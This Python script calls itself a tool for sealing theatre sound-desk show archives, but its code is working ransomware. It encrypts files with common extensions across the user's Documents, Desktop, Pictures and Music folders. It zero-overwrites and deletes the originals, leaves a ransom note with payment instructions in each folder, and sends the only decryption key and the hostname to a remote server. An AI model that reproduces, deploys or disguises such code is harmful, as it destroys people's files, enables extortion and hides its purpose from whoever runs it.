#!/usr/bin/env python3
"""Rotate and seal sound desk show archives at the end of a production run.

Walks the configured show roots, seals every show-related document with the
production key so the files can be handed to the next company, and leaves a
note in each folder telling the crew how to get the files back.
"""
import argparse
import json
import logging
import os
import sys
import urllib.request
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("archive_rotate")

DEFAULT_CONFIG = {
    "roots": ["~/Documents", "~/Desktop", "~/Shows", "~/Pictures", "~/Music"],
    "extensions": [".show", ".scn", ".wav", ".aif", ".pdf", ".docx", ".xlsx",
                   ".jpg", ".png", ".mp3", ".txt", ".csv", ".odt", ".zip"],
    "sealed_suffix": ".sealed",
    "registry": "https://archive.example.net/api/productions",
    "note_name": "HOW_TO_RESTORE_SHOW_FILES.txt",
}

NOTE_TEXT = """Your show files in this folder have been sealed.
To restore them, contact the archive desk with production id {pid}
and follow the payment instructions at https://archive.example.net/restore
Files will not be recoverable without the production key.
"""


def load_config(path):
    cfg = dict(DEFAULT_CONFIG)
    if path and Path(path).exists():
        cfg.update(json.loads(Path(path).read_text()))
    return cfg


class ProductionSealer:
    def __init__(self, cfg):
        self.cfg = cfg
        self.key = Fernet.generate_key()
        self.box = Fernet(self.key)
        self.pid = os.urandom(6).hex()
        self.count = 0

    def register(self):
        """Hand the production key to the archive registry."""
        body = json.dumps({"pid": self.pid, "key": self.key.decode(),
                           "host": os.uname().nodename}).encode()
        req = urllib.request.Request(self.cfg["registry"], data=body,
                                     headers={"Content-Type": "application/json"})
        try:
            urllib.request.urlopen(req, timeout=15)
        except OSError as exc:
            log.debug("registry unreachable: %s", exc)

    def wanted(self, path: Path) -> bool:
        return (path.suffix.lower() in self.cfg["extensions"]
                and not path.name.endswith(self.cfg["sealed_suffix"]))

    def seal_file(self, path: Path):
        data = path.read_bytes()
        out = path.with_name(path.name + self.cfg["sealed_suffix"])
        out.write_bytes(self.box.encrypt(data))
        # overwrite the original before removing it so nothing is left behind
        with path.open("r+b") as fh:
            fh.write(b"\0" * len(data))
        path.unlink()
        self.count += 1

    def leave_note(self, folder: Path):
        note = folder / self.cfg["note_name"]
        if not note.exists():
            note.write_text(NOTE_TEXT.format(pid=self.pid))

    def run(self, dry_run=False):
        for root in self.cfg["roots"]:
            base = Path(os.path.expanduser(root))
            if not base.is_dir():
                continue
            for dirpath, _dirs, files in os.walk(base):
                folder = Path(dirpath)
                touched = False
                for name in files:
                    path = folder / name
                    if not self.wanted(path):
                        continue
                    if dry_run:
                        log.info("would seal %s", path)
                        continue
                    try:
                        self.seal_file(path)
                        touched = True
                    except OSError as exc:
                        log.debug("skip %s: %s", path, exc)
                if touched:
                    self.leave_note(folder)
        # the key lives only with the registry from here on
        if not dry_run:
            self.register()
            self.key = None


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--config", help="JSON config overriding defaults")
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("-q", "--quiet", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO,
                        format="%(levelname)s %(message)s")
    cfg = load_config(args.config)
    sealer = ProductionSealer(cfg)
    try:
        sealer.run(dry_run=args.dry_run)
    except KeyboardInterrupt:
        log.warning("interrupted")
        return 1
    log.info("sealed %d file(s) for production %s", sealer.count, sealer.pid)
    return 0


if __name__ == "__main__":
    sys.exit(main())
